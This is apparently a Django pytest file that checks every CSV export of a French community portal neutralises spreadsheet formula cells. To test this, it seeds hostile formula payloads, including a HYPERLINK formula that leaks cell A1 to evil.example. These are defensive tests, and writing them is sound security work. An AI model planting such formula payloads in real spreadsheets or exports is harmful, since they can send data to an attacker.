"""Every CSV the portal writes neutralises the cells a spreadsheet would run as formulas.

The exports are found, not listed: every URL without parameters (public and admin) and every admin
action is requested as a superuser, with hostile text in every text column of every table, and every
answer that is a CSV is checked cell by cell. A new export is therefore covered without anyone
remembering to add it here; a source check makes sure no code writes CSV around the shared writer.
"""

import csv
import io
import re
from http import HTTPStatus
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib import admin
from django.db import models, transaction
from django.test import RequestFactory
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from actors.models import Actor
from actors.services import imports as actor_imports
from core.csv_export import FORMULA_STARTS
from events.models import EmailRecord, Registration
from tests import factories

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
APPS = ("poles", "actors", "events")
HOSTILE_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")'
#: A number as the portal writes it: a decimal point, or a decimal comma in the file for French spreadsheets.
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
#: The exports that exist today: the walk must find at least these, or it walks nothing.
KNOWN_EXPORTS = {
    "/donnees/acteurs.csv",
    "action actors.actor export_csv",
    "action events.registration export_csv",
}


class Rollback(Exception):
    """Raised to undo what an admin action did, so that each action sees the same rows."""


def hostile(field, index: int, row: int) -> str:
    """A formula for column ``index`` of row ``row`` (unique per row, cut to the column's length);
    an email column gets an address that its validator accepts (``=1+HYPERLINK…@evil.example``)."""
    if isinstance(field, models.EmailField):
        return f"{'=+-'[index % 3]}{row}+HYPERLINK@evil.example"
    value = f"{HOSTILE_STARTS[index % len(HOSTILE_STARTS)]}{row}{PAYLOAD}"
    return value[: field.max_length] if field.max_length else value


def text_fields(model):
    """The columns a person can type free text into (no choices, slugs or keys)."""
    for field in model._meta.concrete_fields:
        if (
            isinstance(field, models.CharField | models.TextField)
            and not isinstance(field, models.SlugField)
            and not field.choices
            and not field.primary_key
        ):
            yield field


@pytest.fixture
def hostile_data(superuser):
    """One row of each kind, then hostile text in every free-text column of every table of the apps."""
    commune = factories.CommuneFactory(latitude=48.1, longitude=-4.48)
    pole = factories.PoleFactory()
    sector = factories.SectorFactory()
    actor = factories.ActorFactory(pole=pole, commune=commune, sectors=[sector], is_published=True)
    factories.SupportFactory(pole=pole)
    workshop = factories.WorkshopFactory(pole=pole)
    event = factories.EventFactory(pole=pole, workshop=workshop, commune=commune)
    registration = factories.RegistrationFactory(event=event, organisation_name="Asso")
    factories.RegistrationFactory(event=event, organisation=actor)
    EmailRecord.objects.create(registration=registration, kind=EmailRecord.Kind.CONFIRMATION_REQUEST)
    Actor.objects.filter(pk=actor.pk).update(review_status=Actor.Review.PENDING)
    for app_label in APPS:
        for model in apps.get_app_config(app_label).get_models():
            fields = list(text_fields(model))
            for pk in model._default_manager.values_list("pk", flat=True) if fields else ():
                values = {f.name: hostile(f, i, pk) for i, f in enumerate(fields)}
                model._default_manager.filter(pk=pk).update(**values)
    return {"actor": actor, "registration": registration}


def _urls_without_parameters(patterns, prefix=""):
    for entry in patterns:
        route = str(entry.pattern).lstrip("^").rstrip("$").replace("\\Z", "")
        has_parameters = bool(getattr(entry.pattern, "converters", None)) or (
            hasattr(entry.pattern, "regex") and entry.pattern.regex.groups
        )
        if has_parameters:
            continue
        if isinstance(entry, URLResolver):
            yield from _urls_without_parameters(entry.url_patterns, prefix + route)
        elif isinstance(entry, URLPattern):
            yield "/" + prefix + route


def _body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def _is_csv(response) -> bool:
    return response.get("Content-Type", "").startswith("text/csv")


def csv_exports(client, superuser) -> dict[str, str]:
    """Every CSV the portal answers: by URL (public and admin pages without parameters), and by admin
    action run on every row of its model (undone afterwards)."""
    found = {}
    client.force_login(superuser)
    for url in sorted(set(_urls_without_parameters(get_resolver().url_patterns))):
        if url.endswith("/logout/"):
            continue
        response = client.get(url)
        if _is_csv(response):
            found[url] = _body(response)
    request = RequestFactory().get("/admin/")
    request.user = superuser
    for model, model_admin in admin.site._registry.items():
        changelist = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        pks = [str(pk) for pk in model._default_manager.values_list("pk", flat=True)]
        for name in model_admin.get_actions(request):
            if name == "delete_selected" or not pks:
                continue
            try:
                with transaction.atomic():
                    response = client.post(changelist, {"action": name, "_selected_action": pks, "index": 0})
                    if _is_csv(response):
                        found[f"action {model._meta.label_lower} {name}"] = _body(response)
                    raise Rollback
            except Rollback:
                pass
    return found


def cells(text: str) -> list[str]:
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def test_no_csv_of_the_portal_holds_a_cell_a_spreadsheet_would_run(client, superuser, hostile_data):
    exports = csv_exports(client, superuser)

    assert exports.keys() >= KNOWN_EXPORTS
    for name, text in exports.items():
        values = cells(text)
        dangerous = [c for c in values if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
        assert dangerous == [], name
        neutralised = [c for c in values if c.startswith("'") and PAYLOAD[:12] in c]
        assert neutralised, f"{name} shows none of the hostile values: did it export any row?"


def test_negative_numbers_stay_numbers_and_a_phone_number_stays_readable(client, superuser):
    commune = factories.CommuneFactory(latitude=48.1, longitude=-4.48)
    factories.ActorFactory(
        name="Ti Numéro", commune=commune, latitude=48.1, longitude=-4.48, phone="+33 2 99 12 34 56"
    )

    public = _body(client.get("/donnees/acteurs.csv"))
    client.force_login(superuser)
    exported = _body(
        client.post(
            reverse("admin:actors_actor_changelist"),
            {"action": "export_csv", "_selected_action": [str(Actor.objects.get().pk)], "index": 0},
        )
    )

    for text in (public, exported):
        values = cells(text)
        assert "-4.48" in values  # a number: no quote, the spreadsheet reads -4.48
        assert "'+33 2 99 12 34 56" in values  # text: shown as +33 2 99 12 34 56, not run as =33 2 99…


def test_an_exported_file_imports_back_without_the_quotes(client, roles, pole_a, coordinator):
    commune = factories.CommuneFactory(insee_code="35236", name="Redon", postal_codes="35600")
    factories.ActorFactory(
        pole=pole_a, name="-Le Tiret", commune=commune, phone="+33 2 99 12 34 56", description="=1+1"
    )
    client.force_login(coordinator)
    response = client.post(
        reverse("admin:actors_actor_changelist"),
        {"action": "export_csv", "_selected_action": [str(Actor.objects.get().pk)], "index": 0},
    )
    assert response.status_code == HTTPStatus.OK and "'+33" in response.content.decode()

    report = actor_imports.actors_import(pole=pole_a, file=response.content, user=coordinator, dry_run=False)

    assert report.ok and report.updated == 1, report.file_errors
    actor = Actor.objects.get()
    assert (actor.name, actor.phone, actor.description) == ("-Le Tiret", "+33 2 99 12 34 56", "=1+1")


def test_every_csv_writer_of_the_code_is_the_neutralising_one():
    """A new export cannot write CSV around core.csv_export without this failing."""
    offenders = []
    folders = [p for p in ROOT.iterdir() if p.is_dir() and not p.name.startswith(".") and p.name != "tests"]
    for path in (path for folder in folders for path in folder.rglob("*.py")):
        if path.relative_to(ROOT).as_posix() == "core/csv_export.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []


@pytest.fixture
def roles(db):
    from ess_portal.management.commands.setup_roles import roles_setup

    roles_setup()


@pytest.fixture
def pole_a(db):
    return factories.PoleFactory(name="Pôle Alpha")


@pytest.fixture
def coordinator(roles, pole_a):
    return factories.make_coordinator(pole_a, username="coord-a")


def test_registrations_export_neutralises_what_a_visitor_typed(client, superuser):
    factories.RegistrationFactory(
        full_name='=HYPERLINK("https://evil.example","x")', organisation_name="@SUM(1)"
    )
    client.force_login(superuser)

    response = client.post(
        reverse("admin:events_registration_changelist"),
        {"action": "export_csv", "_selected_action": [str(Registration.objects.get().pk)], "index": 0},
    )

    values = cells(response.content.decode("utf-8-sig"))
    assert '\'=HYPERLINK("https://evil.example","x")' in values
    assert "'@SUM(1)" in values
